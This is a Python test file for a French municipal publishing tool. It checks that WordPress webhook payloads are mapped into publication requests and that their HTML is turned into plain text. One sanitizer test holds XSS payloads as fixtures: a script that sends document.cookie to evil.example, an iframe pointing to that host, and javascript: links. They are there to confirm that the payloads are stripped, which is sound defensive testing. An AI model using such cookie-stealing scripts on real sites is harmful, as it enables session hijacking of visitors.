"""Inbound webhook bodies → publication requests: shape detection, WordPress mapping, HTML → text."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest

from crieur.errors import InvalidInput
from crieur.inbound.html import clip, html_to_text, inline_text
from crieur.inbound.payloads import LINK_LABEL, detect, from_wordpress, publication_request

CONTENT = (
    "<!-- wp:paragraph -->\n<p>Le marché de Noël revient <strong>place de la Mairie</strong> le samedi "
    "13&nbsp;décembre, de 10&nbsp;h à 18&nbsp;h.</p>\n<!-- /wp:paragraph -->\n\n"
    '<!-- wp:heading -->\n<h2 class="wp-block-heading">Au programme</h2>\n<!-- /wp:heading -->\n\n'
    '<!-- wp:list -->\n<ul class="wp-block-list"><li>Artisans locaux</li><li>Chorale de l&#8217;école'
    "</li></ul>\n<!-- /wp:list -->\n\n"
    '<p>Inscriptions des exposants <a href="https://mairie-exemple.fr/exposants/">en ligne</a>.<br />\n'
    "Renseignements&nbsp;: 02 99 00 00 00.</p>\n"
)

# A post as WordPress's REST API renders it (GET /wp-json/wp/v2/posts/1234?_embed), as webhook plugins send it.
REST_POST: dict[str, Any] = {
    "id": 1234,
    "date": "2026-12-01T09:30:00",
    "date_gmt": "2026-12-01T08:30:00",
    "guid": {"rendered": "https://mairie-exemple.fr/?p=1234"},
    "modified": "2026-12-01T09:30:00",
    "slug": "marche-de-noel-2026",
    "status": "publish",
    "type": "post",
    "link": "https://mairie-exemple.fr/2026/12/01/marche-de-noel-2026/",
    "title": {"rendered": "Marché de Noël&nbsp;: c&#8217;est reparti&nbsp;!"},
    "content": {"rendered": CONTENT, "protected": False},
    "excerpt": {
        "rendered": "<p>Le marché de Noël revient place de la Mairie le 13 décembre.</p>\n",
        "protected": False,
    },
    "author": 3,
    "featured_media": 987,
    "comment_status": "closed",
    "categories": [4],
    "_embedded": {
        "wp:featuredmedia": [
            {
                "id": 987,
                "type": "attachment",
                "media_type": "image",
                "mime_type": "image/jpeg",
                "alt_text": "Chalets illuminés sur la place de la Mairie",
                "caption": {"rendered": "<p>Édition 2025</p>\n"},
                "source_url": "https://mairie-exemple.fr/wp-content/uploads/2026/12/marche-noel.jpg",
            }
        ]
    },
}

# The WP_Post fields, nested under "post", as the WP Webhooks plugin's "post_create" trigger sends them.
FLAT_POST: dict[str, Any] = {
    "post_id": 1234,
    "post": {
        "ID": 1234,
        "post_author": "3",
        "post_date": "2026-12-01 09:30:00",
        "post_content": "<!-- wp:paragraph -->\nTravaux rue des Lilas du 3 au 7 mars.\n\n"
        '[caption id="attachment_9" align="alignnone"]<img src="x.jpg" alt="" /> Plan[/caption]\n\n'
        "Circulation alternée.\n<!-- /wp:paragraph -->",
        "post_title": "Travaux rue des Lilas",
        "post_excerpt": "",
        "post_status": "publish",
        "post_password": "",
        "post_name": "travaux-rue-des-lilas",
        "post_type": "post",
    },
    "post_permalink": "https://mairie-exemple.fr/travaux-rue-des-lilas/",
    "post_thumbnail": "https://mairie-exemple.fr/wp-content/uploads/plan.jpg",
    "post_thumbnail_alt": "Plan de la déviation",
}


def test_shapes_are_told_apart() -> None:
    assert detect({"title": "Avis", "body": "Texte"}) == "crieur"
    assert detect(REST_POST) == "wordpress"
    assert detect(FLAT_POST) == "wordpress"
    assert detect({"post_title": "Avis", "post_content": "x"}) == "wordpress"
    assert detect({"event": "post_created", "data": {"id": 1, "title": {"rendered": "x"}}}) == "wordpress"
    for unknown in ({"hello": "world"}, [], "texte", {"title": "sans corps"}):
        assert detect(unknown) is None


def test_rest_post_maps_to_a_publication() -> None:
    fields = from_wordpress(REST_POST)
    assert fields["title"] == "Marché de Noël\xa0: c’est reparti\xa0!"
    assert fields["body"] == (
        "Le marché de Noël revient place de la Mairie le samedi 13\xa0décembre, de 10\xa0h à 18\xa0h.\n\n"
        "Au programme\n\n"
        "• Artisans locaux\n\n"
        "• Chorale de l’école\n\n"
        "Inscriptions des exposants en ligne (https://mairie-exemple.fr/exposants/).\n"
        "Renseignements\xa0: 02 99 00 00 00."
    )
    assert fields["links"] == [
        {"url": "https://mairie-exemple.fr/2026/12/01/marche-de-noel-2026/", "label": LINK_LABEL}
    ]
    assert fields["media"] == [
        {
            "url": "https://mairie-exemple.fr/wp-content/uploads/2026/12/marche-noel.jpg",
            "alt": "Chalets illuminés sur la place de la Mairie",
            "kind": "image",
        }
    ]
    request = publication_request(json.dumps(REST_POST).encode())
    assert request.title == fields["title"]
    assert str(request.links[0].url) == fields["links"][0]["url"]
    assert request.media[0].alt == "Chalets illuminés sur la place de la Mairie"
    assert request.category == "news"
    assert request.channels is None  # every channel the commune enabled


def test_wp_post_fields_map_with_shortcodes_removed() -> None:
    fields = from_wordpress(FLAT_POST)
    assert fields["title"] == "Travaux rue des Lilas"
    assert fields["body"] == "Travaux rue des Lilas du 3 au 7 mars.\n\nPlan\n\nCirculation alternée."
    assert fields["links"][0]["url"] == "https://mairie-exemple.fr/travaux-rue-des-lilas/"
    assert fields["media"] == [
        {"url": "https://mairie-exemple.fr/wp-content/uploads/plan.jpg", "alt": "Plan de la déviation", "kind": "image"}
    ]


def test_an_image_without_alternative_text_is_left_out_and_the_caption_can_stand_in() -> None:
    post = copy.deepcopy(REST_POST)
    post["_embedded"]["wp:featuredmedia"][0]["alt_text"] = ""
    assert from_wordpress(post)["media"][0]["alt"] == "Édition 2025"
    post["_embedded"]["wp:featuredmedia"][0]["caption"] = {"rendered": ""}
    assert "media" not in from_wordpress(post)
    flat = copy.deepcopy(FLAT_POST)
    del flat["post_thumbnail_alt"]
    assert "media" not in from_wordpress(flat)


def test_scripts_styles_and_frames_never_reach_the_text() -> None:
    post = copy.deepcopy(REST_POST)
    post["content"]["rendered"] = (
        '<style>p{color:red}</style><p onclick="steal()">Réunion publique</p>'
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        "<script type=\"text/javascript\">alert('</p>')</script>"
        '<iframe src="https://evil.example"><p>fallback</p></iframe><noscript>Activez JavaScript</noscript>'
        '<p>Salle des fêtes, 20&nbsp;h. <a href="javascript:alert(1)">Détails</a></p>'
        "<p>&lt;script&gt;alert(2)&lt;/script&gt; échappé</p><svg><text>SVG</text></svg><script>unclosed"
    )
    body = from_wordpress(post)["body"]
    assert body == "Réunion publique\n\nSalle des fêtes, 20\xa0h. Détails\n\nalert(2) échappé"
    for forbidden in ("<", "script", "cookie", "color", "fallback", "JavaScript", "SVG", "unclosed"):
        assert forbidden not in body


def test_only_published_and_unprotected_posts_are_broadcast() -> None:
    draft = copy.deepcopy(REST_POST) | {"status": "private"}
    with pytest.raises(InvalidInput) as refused:
        from_wordpress(draft)
    assert refused.value.errors[0][0] == "status"

    protected = copy.deepcopy(REST_POST)
    protected["content"]["protected"] = True
    assert from_wordpress(protected)["body"] == "Le marché de Noël revient place de la Mairie le 13 décembre."
    protected["excerpt"]["protected"] = True
    with pytest.raises(InvalidInput) as nothing:
        from_wordpress(protected)
    assert nothing.value.errors[0][0] == "body"

    with_password = copy.deepcopy(FLAT_POST)
    with_password["post"]["post_password"] = "secret"
    with pytest.raises(InvalidInput):
        from_wordpress(with_password)


def test_long_posts_use_the_excerpt_or_are_cut_and_long_titles_are_cut() -> None:
    post = copy.deepcopy(REST_POST)
    post["content"]["rendered"] = "<p>" + "Compte rendu détaillé du conseil municipal. " * 400 + "</p>"
    assert from_wordpress(post)["body"] == "Le marché de Noël revient place de la Mairie le 13 décembre."
    post["excerpt"]["rendered"] = ""
    body = from_wordpress(post)["body"]
    assert len(body) <= 10_000
    assert body.endswith("…")
    post["title"]["rendered"] = "Très long titre " * 20
    title = from_wordpress(post)["title"]
    assert len(title) <= 140
    assert title.endswith("…")


def test_crieur_schema_is_validated_like_the_api() -> None:
    request = publication_request(b'{"title": "Coupure d\'eau", "body": "Mardi matin.", "urgency": "high"}')
    assert request.urgency == "high"
    with pytest.raises(InvalidInput) as unknown_field:
        publication_request(b'{"title": "x", "body": "y", "colour": "red"}')
    assert unknown_field.value.errors[0][0] == "colour"
    with pytest.raises(InvalidInput) as not_json:
        publication_request(b"{not json")
    assert not_json.value.errors[0][1].startswith("JSON invalide")
    with pytest.raises(InvalidInput) as unknown_shape:
        publication_request(b'{"hello": "world"}')
    assert unknown_shape.value.errors[0][1].startswith("Format non reconnu")
    insecure = copy.deepcopy(REST_POST) | {"link": "http://mairie-exemple.fr/marche/"}
    with pytest.raises(InvalidInput) as http_link:
        publication_request(json.dumps(insecure).encode())
    assert http_link.value.errors[0][0] == "links[0].url"


def test_html_to_text_details() -> None:
    assert html_to_text("<ol><li>Un</li><li>Deux</li></ol><p>a<br>b</p>") == "1. Un\n\n2. Deux\n\na\nb"
    assert html_to_text("<table><tr><td>Lundi</td><td>9 h</td></tr><tr><td>Mardi</td><td>fermé</td></tr></table>") == (
        "Lundi 9 h\nMardi fermé"
    )
    assert html_to_text("<p>&nbsp;</p><p>  espaces \n  multiples </p>") == "espaces multiples"
    assert html_to_text('<a href="https://x.fr/">https://x.fr/</a>') == "https://x.fr/"
    assert inline_text("<em>Avis</em>\n de  <b>travaux</b>") == "Avis de travaux"
    assert clip("un deux trois", 9) == "un deux…"
